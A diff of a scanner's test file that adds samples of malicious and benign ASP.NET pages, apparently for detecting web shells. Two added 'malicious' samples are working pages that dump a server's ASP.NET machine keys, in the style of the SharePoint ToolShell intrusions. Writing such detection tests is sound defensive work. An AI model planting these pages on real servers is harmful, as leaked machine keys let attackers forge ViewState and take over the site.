@@ -235,6 +235,23 @@ public class Mod : IHttpModule {
   public void Dispose() {}
 }
 `],
+  // (a page that gives away the machine keys, as in the SharePoint ToolShell intrusions: two forms of our own)
+  ['an ASP.NET page reading the machine key section by reflection (GetApplicationConfig) and writing both keys', 'mamori_aspx_machinekey_dump', '/www/_layouts/15/k.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");
+  var get = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
+  dynamic k = get.Invoke(null, null);
+  Response.Write(string.Join(";", k.ValidationKey, k.Validation, k.DecryptionKey, k.Decryption));
+}
+</script>`],
+  ['an ASP.NET page reading system.web/machineKey by GetSection and writing the keys', 'mamori_aspx_machinekey_dump', '/www/info.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var s = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager.GetSection("system.web/machineKey");
+  Response.Output.Write("{0}|{1}", s.ValidationKey, s.DecryptionKey);
+}
+</script>`],
 ];
 
 // Uploaders of a few lines, written other ways: suspicious.
@@ -343,6 +360,13 @@ if (page != null && page.matches("[a-z0-9-]{1,40}") && html != null) {
 }
 %>
 `],
+  ['a page generating new machine keys for the operator to paste into web.config', '/www/admin/newkeys.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+string Hex(int n) { var b = new byte[n]; using (var r = System.Security.Cryptography.RandomNumberGenerator.Create()) r.GetBytes(b); return BitConverter.ToString(b).Replace("-", ""); }
+void Page_Load(object o, EventArgs e) {
+  Response.Write("<machineKey validationKey=\\"" + Hex(64) + "\\" decryptionKey=\\"" + Hex(32) + "\\" validation=\\"HMACSHA256\\" decryption=\\"AES\\" />");
+}
+</script>`],
 ];
 
 describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
@@ -387,8 +411,8 @@ describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
     assert.match(r.sha256, /^[0-9a-f]{64}$/);
   });
   it('ran every case', () => {
-    assert.equal(MALICIOUS.length, 23);
+    assert.equal(MALICIOUS.length, 25);
     assert.equal(UPLOADERS.length, 2);
-    assert.equal(BENIGN.length, 8);
+    assert.equal(BENIGN.length, 9);
   });
 });
